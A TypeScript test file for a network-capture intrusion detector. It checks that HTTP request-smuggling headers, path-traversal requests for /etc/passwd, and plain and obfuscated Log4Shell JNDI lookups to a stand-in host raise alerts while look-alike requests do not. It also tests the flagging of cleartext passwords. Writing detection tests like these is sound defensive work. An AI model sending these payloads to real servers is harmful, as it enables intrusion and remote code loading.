import { describe, expect, test } from '@jest/globals';
import { requires } from '../../kit/requires.js';
import { answer, overhear } from './wire/spoken.js';

const ask = (head: string, body = ''): string => `${head}\r\nHost: shop.test\r\n\r\n${body}`;
const attack = (name: string, head: string, signal: string, body = '') => [name, head, signal, body] as const;
const harmless = (name: string, head: string, body = '') => [name, head, body] as const;

const chunks = '5\r\nhello\r\n0\r\n\r\n';
const post = 'POST /orders HTTP/1.1';

const attacks = [
  attack(
    'a length and a coding',
    `${post}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked`,
    'smuggling.length-and-coding',
    '0\r\n\r\n',
  ),
  attack(
    'the same in the other order',
    `${post}\r\ntransfer-encoding: chunked\r\ncontent-length: 15`,
    'smuggling.length-and-coding',
    chunks,
  ),
  attack(
    'lengths that differ',
    `${post}\r\nContent-Length: 5\r\nContent-Length: 3`,
    'smuggling.lengths',
    'hello',
  ),
  attack(
    'a coding with a space before its colon',
    `${post}\r\nContent-Length: 5\r\nTransfer-Encoding : chunked`,
    'smuggling.disguised-coding',
    chunks,
  ),
  attack(
    'a coding that only some recognise',
    `${post}\r\nContent-Length: 5\r\nTransfer-Encoding: xchunked`,
    'smuggling.disguised-coding',
    'hello',
  ),
  attack('a length that is no number', `${post}\r\nContent-Length: +5`, 'smuggling.length-form', ''),
  attack('a path that climbs, as sent', 'GET /static/../../../etc/passwd HTTP/1.1', 'path.climb'),
  attack('a path that climbs in disguise', 'GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1', 'path.'),
  attack('a path that climbs from its first sign', 'GET ../../../../etc/passwd HTTP/1.1', 'path.climb'),
  attack(
    'a lookup in a header that nobody inspects',
    'GET /orders HTTP/1.1\r\nIf-None-Match: ${jndi:ldap://198.51.100.9/a}',
    'log4shell.jndi',
  ),
  attack(
    'a lookup in disguise in the user agent',
    'GET /orders HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}',
    'log4shell.jndi',
  ),
  attack(
    'a lookup in a date',
    'GET /orders HTTP/1.1\r\nDate: ${jndi:dns://198.51.100.9/a}',
    'log4shell.jndi',
  ),
] as const;

const nearMisses = [
  harmless('chunks', `${post}\r\nTransfer-Encoding: chunked`, chunks),
  harmless('chunks that are packed', `${post}\r\nTransfer-Encoding: gzip, Chunked`, chunks),
  harmless('the same length twice', `${post}\r\nContent-Length: 5\r\nContent-Length: 5`, 'hello'),
  harmless(
    'trailers that are welcome',
    `${post}\r\nTE: trailers\r\nX-Content-Length: 9\r\nContent-Length: 5`,
    'hello',
  ),
  harmless(
    'both headers in a body',
    `${post}\r\nContent-Type: text/plain\r\nContent-Length: 46`,
    'Transfer-Encoding: chunked\r\nContent-Length: 6\r\n'.slice(0, 46),
  ),
  harmless('dots in a name', 'GET /files/report..2026.pdf HTTP/1.1'),
  harmless('an ordinary tag', 'GET /orders HTTP/1.1\r\nIf-None-Match: "5e1f-${7}"'),
  harmless(
    'a page about lookups',
    'GET /search?q=what+is+jndi HTTP/1.1\r\nDate: Fri, 20 Nov 2026 09:00:00 GMT',
  ),
] as const;

requires('suricata')('from the packets of a capture', () => {
  test('each form of attack that only the wire shows is a signal of its own call, and what looks alike is none', async () => {
    const all = [
      ...attacks.map(([name, head, signal, body]) => ({
        name,
        signal: signal as string | undefined,
        asked: ask(head, body),
      })),
      ...nearMisses.map(([name, head, body]) => ({ name, signal: undefined, asked: ask(head, body) })),
    ];
    const { calls, text } = await overhear(
      all.map(({ asked }, n) => ({ turns: [asked, answer(`{"n":${n}}`, `X-N: ${n}\r\n`, `${200 + n} N`)] })),
    );
    const told = all.map(({ name }, n) => {
      const own = calls.filter(({ response }) => response.status === 200 + n);
      const signals = own.flatMap((call) => call.signals ?? []).filter(({ confidence }) => confidence >= 0.8);
      return [name, own.length, signals.map(({ rule }) => rule)] as const;
    });
    for (const [n, { name, signal }] of all.entries()) {
      const rules = told[n]?.[2] ?? [];
      expect([name, told[n]?.[1]]).toEqual([name, 1]);
      if (signal === undefined) expect([name, rules]).toEqual([name, []]);
      else expect([name, rules.some((rule) => rule.startsWith(signal)), rules]).toEqual([name, true, rules]);
    }
    expect(text).not.toContain('198.51.100.9');
  }, 120_000);

  describe('a password in clear text is told', () => {
    const basic = `Authorization: Basic ${Buffer.from('amy:canary-4711').toString('base64')}`;
    const form = 'name=amy&password=canary-4711';
    const login = `POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${form.length}`;

    test('never when a proxy ended TLS in front, a token was sent, or nothing secret was', async () => {
      const asked = [
        ask(`GET /orders HTTP/1.1\r\n${basic}`),
        ask(login, form),
        ask(`GET /orders HTTP/1.1\r\n${basic}\r\nX-Forwarded-Proto: https`),
        ask(`${login}\r\nForwarded: for=198.51.100.7;proto=https`, form),
        ask('GET /orders HTTP/1.1\r\nAuthorization: Bearer abcdefghijklmnop'),
        ask('GET /orders HTTP/1.1\r\nX-Note: Basic'),
      ];
      const { calls, text } = await overhear(
        asked.map((each, n) => ({ turns: [each, answer('{}', '', `${200 + n} N`)] })),
      );
      const marked = calls
        .filter(({ request }) => request?.marks?.includes('clear-credentials'))
        .map(({ response }) => response.status);
      expect(calls).toHaveLength(asked.length);
      expect(marked.sort()).toEqual([200, 201]);
      expect(text).not.toContain('canary');
    }, 60_000);
  });
});
